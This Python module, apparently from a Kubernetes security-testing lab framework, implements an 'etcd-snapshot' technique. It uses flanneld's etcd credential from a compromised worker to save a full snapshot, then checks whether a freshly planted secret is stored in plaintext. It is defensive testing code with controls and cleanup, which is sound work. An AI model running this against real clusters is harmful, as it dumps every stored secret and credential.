"""Take a snapshot of all of etcd with the credential of flanneld.

One call gives the whole database: every object of the cluster, and the versions of each that etcd
has not compacted yet. The attacker needs root on a worker, or a copy of flanneld's credential.
They save a snapshot and look for a secret that was stored under the present configuration. Without
users in etcd, every client may take one. With users, only the role root may, whatever keys the
other roles give. Encryption at rest leaves a ciphertext in the snapshot.
"""

from __future__ import annotations

import secrets as random_values
from typing import TYPE_CHECKING

from labkit.errors import ProbeError
from labkit.lab.traces import Trace, leaving
from labkit.model import Foothold, Model, read_model
from labkit.model.credentials import client_credential
from labkit.model.etcd_rights import ALL_KEYS, MAINTAIN
from labkit.techniques._lib.machines.reach import execution_place, run_from
from labkit.techniques._lib.stores.etcd import (
    as_client,
    flannels_key,
    may_as_client,
    refusal_in,
    stores_plaintext,
)
from labkit.techniques._lib.stores.secret import Secret, fresh_secret
from labkit.techniques._lib.technique import (
    COPIED_CREDENTIAL,
    ROOT_ON_WORKER,
    SECRETS,
    Prediction,
    Technique,
    then,
)
from labkit.techniques._lib.verdict import Verdict

if TYPE_CHECKING:
    from labkit.lab import Lab, Output

__all__ = ["TECHNIQUE"]

WORKER = "worker1"
CHANNEL = f"flanneld@{WORKER} -> etcd@*"
NAME = "labkit-snapshot"
KEY = f"/registry/secrets/default/{NAME}"


def predict(model: Model, foothold: Foothold) -> Prediction:
    """Predict whether etcd gives flanneld a snapshot, and stores secrets in plaintext."""
    channel = model.open_channels(CHANNEL)[0]
    return then(may_as_client(model, channel, MAINTAIN, ALL_KEYS), stores_plaintext(model))


def execute(lab: Lab, foothold: Foothold) -> Verdict:
    """Save a snapshot with flanneld's credential, and look for a new secret in it.

    Raises
    ------
    ProbeTimeout
        etcd did not answer.
    ProbeError
        etcd gave neither a snapshot nor a known refusal, or the positive control failed.
    """
    model = read_model(lab.environment)
    channel = model.open_channels(CHANNEL)[0]
    credential = client_credential(model, channel)
    what = "with flanneld's certificate" if credential else "as flanneld does, without a credential"
    folder = f"/tmp/labkit-{random_values.token_hex(4)}"  # noqa: S108 - of the attacker's machine
    place = execution_place(lab, foothold)[0]
    with (
        fresh_secret(lab, NAME) as secret,
        as_client(lab, foothold, channel, credential) as call,
        leaving(lab, Trace("file", folder, place)),
    ):
        run_from(lab, foothold, ["mkdir", "--mode=0700", folder])
        saved = call("snapshot", "save", f"{folder}/snapshot")
        evidence = f"asked {channel.server} for a snapshot, {what}"
        if saved.exit_code:
            return _refused(lab, foothold, saved, evidence, flannels_key(call))

        def has(wanted: bytes) -> bool:
            return _has(lab, foothold, f"{folder}/snapshot", wanted)

        if not has(KEY.encode()):
            raise ProbeError(f"the name of the new secret is not in the snapshot of {place}")
        return _looked(lab, foothold, secret, evidence, found=has(secret.value))


def _refused(lab: Lab, foothold: Foothold, saved: Output, evidence: str, control: str) -> Verdict:
    reason = refusal_in(saved)
    if not reason:
        said = saved.error.strip().splitlines()[-3:]
        raise ProbeError("etcd gave neither a snapshot nor a known refusal", evidence=said)
    return Verdict(
        TECHNIQUE.name, lab.mode, foothold, False, f"etcd: {reason}", (evidence,), control
    )


def _looked(lab: Lab, foothold: Foothold, secret: Secret, evidence: str, *, found: bool) -> Verdict:
    if found:
        shown = (evidence, f"in the snapshot: {secret.proof}")
        reason = "etcd gives all of its database"
        return Verdict(TECHNIQUE.name, lab.mode, foothold, True, reason, shown)
    shown = (evidence, "the snapshot has the key of the new secret, and not its value")
    control = "the same snapshot has the key: the search looks at the right file"
    reason = "the value is a ciphertext"
    return Verdict(TECHNIQUE.name, lab.mode, foothold, False, reason, shown, control)


def _has(lab: Lab, foothold: Foothold, path: str, wanted: bytes) -> bool:
    """Say whether some bytes are in a file; grep gets them on its standard input."""
    argv = ["grep", "--quiet", "--text", "--fixed-strings", "--file=-", path]
    found = run_from(lab, foothold, argv, stdin=wanted)
    if found.exit_code > 1:
        raise ProbeError(f"grep exited with {found.exit_code}", evidence=[found.error])
    return found.exit_code == 0


TECHNIQUE = Technique(
    name="etcd-snapshot",
    title="Take all of etcd in one call",
    footholds=(ROOT_ON_WORKER, COPIED_CREDENTIAL),
    grants=(SECRETS,),
    about="flanneld@* -> etcd@*",
    properties=("client_authentication", "authorization"),
    attack=("T1552.004", "T1552.007", "T1005"),
    stride=("information disclosure", "elevation of privilege"),
    cwe=("CWE-269", "CWE-653"),
    sources=(
        "https://etcd.io/docs/latest/op-guide/recovery/",
        "https://etcd.io/docs/latest/op-guide/authentication/rbac/",
        "https://kubernetes.io/docs/tasks/administer-cluster/configure-upgrade-etcd/",
    ),
    predict=predict,
    execute=execute,
    leaves=("file", "object"),
)
